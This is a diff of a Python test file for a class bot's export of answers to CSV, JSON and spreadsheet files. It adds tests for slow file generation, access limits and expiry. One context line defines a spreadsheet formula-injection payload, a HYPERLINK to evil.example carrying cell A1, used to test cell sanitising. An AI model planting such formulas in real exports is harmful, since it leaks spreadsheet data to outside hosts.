@@ -1,29 +1,36 @@
 """Answers taken along: whole, harmless in a spreadsheet, noted for those who gave them."""
 
+import asyncio
 import csv
 import io
 import json
 import zipfile
 from collections.abc import AsyncIterator, Sequence
+from dataclasses import dataclass
 from datetime import timedelta
+from functools import partial
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import httpx
 import pytest
+import sqlalchemy as sa
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bot.core.people import PersonId
+from bot.core.people import PersonId, Role
 from bot.core.runs import RunId
 from bot.storage.audit import Reader, readers_of
 from bot.storage.connection import Connection
 from bot.storage.exports import ExportRow, Taken, export_chunk
-from bot.web.exporting import HEADS, RISKY, Sheet, as_csv, as_json, harmless, write_xlsx
+from bot.storage.tables import answers
+from bot.web.exporting import HEADS, RISKY, Sheet, harmless, write_csv, write_json, write_xlsx
+from bot.web.making_files import KEPT, Chunks, Files, Making
+from bot.web.pages.export import AT_ONCE
 from bot.web.throttle import EXPORTS
-from tests.stage import ADA, CY, NOW
+from tests.stage import ADA, CY, NOW, OLA
 from tests.web.answering import WEEKLY, answer
-from tests.web.house import BEN, CLASS, DEE, Stage, submit
+from tests.web.house import BEN, CLASS, DEE, Stage, enrol, submit
 
 PAGE = f"/groups/{CLASS}/export"
 FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")'
@@ -132,6 +139,104 @@ async def test_on_paper_stand_the_answers_and_what_was_written_about_them(stage:
     assert "can see that you took it along" in page
 
 
+# Large files, made while a page says how far they are.
+
+
+@dataclass
+class Slow:
+    """A file of three answers whose last one comes when it is let."""
+
+    making: Making
+    rest: asyncio.Event
+
+    @property
+    def page(self) -> str:
+        """Name its page."""
+        return f"{PAGE}/{self.making.id}"
+
+    async def be_written(self) -> None:
+        """Let the rest come, and wait until all is written."""
+        self.rest.set()
+        assert self.making.task is not None
+        await self.making.task
+
+
+def a_slow_file(stage: Stage, *, is_broken: bool = False) -> Slow:
+    """Begin to make a file for Ada."""
+    rest, files = asyncio.Event(), stage.app.state.files
+    assert isinstance(files, Files)
+
+    async def chunks() -> Chunks:
+        yield [a_row(1), a_row(2)]
+        await rest.wait()
+        if is_broken:
+            raise OSError
+        yield [a_row(3)]
+
+    making = files.begin(
+        partial(write_csv, sheet=SHEET),
+        chunks(),
+        person=ADA,
+        group=CLASS,
+        kind="csv",
+        name="answers.csv",
+        total=3,
+        now=stage.hands(),
+    )
+    return Slow(making, rest)
+
+
+async def test_a_large_file_says_how_far_it_is_and_waits_to_be_taken(stage: Stage) -> None:
+    ada, slow = await stage.signed_in(ADA), a_slow_file(stage)
+    page = await ada.get(slow.page)
+    while "2 of 3 answers" not in page.text:
+        page = await ada.get(slow.page)
+    assert (await ada.get(f"{slow.page}/download")).headers["location"] == slow.page
+    await slow.be_written()
+    assert "Your file is ready: 3 answers." in (await ada.get(slow.page)).text
+    for _ in range(2):
+        file = await ada.get(f"{slow.page}/download")
+        assert file.headers["content-disposition"] == 'attachment; filename="answers.csv"'
+        assert len(file.text.splitlines()) == 4
+
+
+async def test_more_answers_than_are_sent_at_once_lead_to_that_page(stage: Stage) -> None:
+    await answer(stage)
+
+    def work(connection: Connection) -> None:
+        row = connection.execute(sa.select(answers).limit(1)).mappings().one()
+        many = [{**row, "key": f"part.{number}"} for number in range(AT_ONCE)]
+        connection.execute(sa.insert(answers), many)
+
+    await stage.database.write(work)
+    ada = await stage.signed_in(ADA)
+    page = await take(ada, "csv")
+    assert page.url.path.startswith(f"{PAGE}/")
+    while "Your file is ready" not in page.text:
+        page = await ada.get(page.url)
+    assert len((await ada.get(f"{page.url}/download")).text.splitlines()) > AT_ONCE
+
+
+async def test_a_file_is_for_nobody_else_and_not_for_ever(stage: Stage) -> None:
+    ada, slow = await stage.signed_in(ADA), a_slow_file(stage)
+    await slow.be_written()
+    await enrol(stage, {OLA: "Ola, who leads the class as well"}, role=Role.FACILITATOR)
+    for other in (CY, BEN, DEE, OLA):
+        assert (await (await stage.signed_in(other)).get(f"{slow.page}/download")).status_code == 404
+    stage.hands.move(seconds=KEPT.total_seconds() + 1)
+    assert (await ada.get(slow.page)).status_code == 404
+    a_slow_file(stage).rest.set()
+    assert not slow.making.path.exists()
+
+
+async def test_a_file_that_cannot_be_made_says_so(stage: Stage, caplog: pytest.LogCaptureFixture) -> None:
+    ada, slow = await stage.signed_in(ADA), a_slow_file(stage, is_broken=True)
+    await slow.be_written()
+    assert "could not be made" in (await ada.get(slow.page)).text
+    assert (await ada.get(f"{slow.page}/download")).headers["location"] == slow.page
+    assert "OSError" in caplog.text
+
+
 # The forms.
 
 
@@ -142,17 +247,19 @@ def test_no_cell_of_a_table_begins_like_a_formula(cell: str) -> None:
     assert safe.lstrip("'") == cell.replace("\0", "").lstrip("'")
 
 
-async def test_a_table_reads_back_as_it_was_said() -> None:
+async def test_a_table_reads_back_as_it_was_said(tmp_path: Path) -> None:
     said = 'Two\nlines, "quoted"; and a – dash'
-    written = "".join([part async for part in as_csv(chunks_of(a_row(said=said)), SHEET)])
-    _, row = csv.reader(io.StringIO(written.lstrip("\ufeff")))
+    await write_csv(tmp_path / "a.csv", chunks_of(a_row(said=said)), SHEET)
+    written = (tmp_path / "a.csv").read_bytes().decode()
+    assert written.startswith("\ufeff")
+    _, row = csv.reader(io.StringIO(written, newline=""))
     assert row == ["Ben", "2026-03-06 11:40", "Weekly check-in", "Which part?", said, "", "", ""]
 
 
-async def test_data_reads_back_as_it_was_said() -> None:
+async def test_data_reads_back_as_it_was_said(tmp_path: Path) -> None:
     rows = [a_row(number, said=said) for number, said in enumerate(("=1+1", "\u2028", '"'))]
-    written = "".join([part async for part in as_json(chunks_of(*rows), SHEET)])
-    assert [one["answer"] for one in json.loads(written)] == ["=1+1", "\u2028", '"']
+    await write_json(tmp_path / "a.json", chunks_of(*rows), SHEET)
+    assert [one["answer"] for one in json.loads((tmp_path / "a.json").read_text())] == ["=1+1", "\u2028", '"']
 
 
 async def test_every_cell_of_a_workbook_is_text(tmp_path: Path) -> None:
